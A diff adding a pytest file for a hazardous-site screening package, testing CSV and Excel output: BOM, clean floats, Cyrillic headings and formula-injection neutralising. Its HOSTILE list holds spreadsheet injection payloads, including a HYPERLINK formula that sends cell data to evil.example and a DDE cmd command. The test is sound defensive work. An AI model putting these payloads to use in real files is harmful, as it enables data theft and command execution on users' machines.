@@ -1,0 +1,105 @@
+"""Result tables as Excel and QGIS users open them: BOM, clean floats, no formulas, results.xlsx."""
+
+from __future__ import annotations
+
+import pandas as pd
+import pytest
+from openpyxl import load_workbook
+
+import hazid
+from hazid.escape import clean_float, spreadsheet_text
+from hazid.output.results import read_table, write_csv
+from hazid.output.workbook import write_workbook
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1+1",
+    "  =1+1",
+    "\r=1",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_formula_cells_are_neutralised(text):
+    assert spreadsheet_text(text) == "'" + text
+
+
+def test_plain_text_and_numbers_are_untouched():
+    assert spreadsheet_text("Ташкент") == "Ташкент"
+    assert spreadsheet_text(-3.5) == -3.5
+    assert spreadsheet_text("KG-001") == "KG-001"
+
+
+def test_floats_are_written_short():
+    assert clean_float(1.7999999999999998) == 1.8
+    assert repr(clean_float(0.1 + 0.2)) == "0.3"
+    assert clean_float(float("nan")) != clean_float(float("nan"))  # stays NaN
+
+
+def test_csv_has_bom_cyrillic_and_no_live_formula(tmp_path):
+    df = pd.DataFrame({"site_name": ["Завод №1", HOSTILE[0]], "ratio": [1.7999999999999998, 2.0]})
+    p = write_csv(df, tmp_path / "t.csv")
+    raw = p.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")  # Excel's rule for UTF-8
+    back = pd.read_csv(p, encoding="utf-8-sig")
+    assert back["site_name"].tolist() == ["Завод №1", "'" + HOSTILE[0]]
+    assert raw.decode("utf-8-sig").splitlines()[1].endswith(",1.8")
+    assert "1.7999999999999998" not in raw.decode("utf-8-sig")
+    assert read_table(p)["site_name"].tolist() == ["Завод №1", HOSTILE[0]]
+
+
+def test_workbook_types_headings_and_formula_safety(tmp_path):
+    df = pd.DataFrame(
+        {
+            "site_id": ["A", "B"],
+            "site_name": ["=1+1", "Завод"],
+            "hazardous": [True, False],
+            "quantity_t": [30.0, 1.7999999999999998],
+            "row": [1, 2],
+        }
+    )
+    p = write_workbook(tmp_path / "r.xlsx", {"sites": df, "none": None})
+    ws = load_workbook(p)["sites"]
+    assert load_workbook(p).sheetnames == ["sites"]
+    assert [c.value for c in ws[1]] == ["site_id", "site_name", "hazardous", "quantity_t", "row"]
+    assert [c.value for c in ws[2]] == ["A", "'=1+1", True, 30.0, 1]
+    assert ws["D3"].value == 1.8 and ws["B2"].data_type == "s"
+    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:E3"
+
+
+def _inventory():
+    return pd.DataFrame(
+        {
+            "site_id": ["A", "B"],
+            "site_name": ['=HYPERLINK("http://x")', "Чимкент НПЗ"],
+            "lon": ["69.2", "69.6"],
+            "lat": ["41.3", "42.3"],
+            "substance": ["chlorine", "gasoline"],
+            "quantity": ["30", "30000"],
+        }
+    )
+
+
+@pytest.mark.parametrize(
+    ("lang", "heading"), [("en", "Maximum quantity (t)"), ("ru", "Максимальное количество (т)")]
+)
+def test_results_workbook_follows_the_language(tmp_path, lang, heading):
+    res = hazid.screen(_inventory(), borders=False, rivers=False)
+    out = hazid.write_results(res, tmp_path / "r", map_html=False, lang=lang)
+    wb = load_workbook(out / "results.xlsx")
+    assert wb.sheetnames[:2] == ["sites", "holdings"]
+    holdings = wb["holdings"]
+    headings = [c.value for c in holdings[1]]
+    assert heading in headings
+    col = headings.index(heading) + 1
+    value = holdings.cell(row=2, column=col).value
+    assert isinstance(value, int | float) and not isinstance(value, bool) and value == 30
+    sites = wb["sites"]
+    names = [sites.cell(row=r, column=2).value for r in (2, 3)]
+    assert names == ['\'=HYPERLINK("http://x")', "Чимкент НПЗ"]
+    # the CSV beside it: BOM, Cyrillic read back by pandas, the formula neutralised
+    back = pd.read_csv(out / "sites.csv", encoding="utf-8-sig")
+    assert back["site_name"].tolist() == names
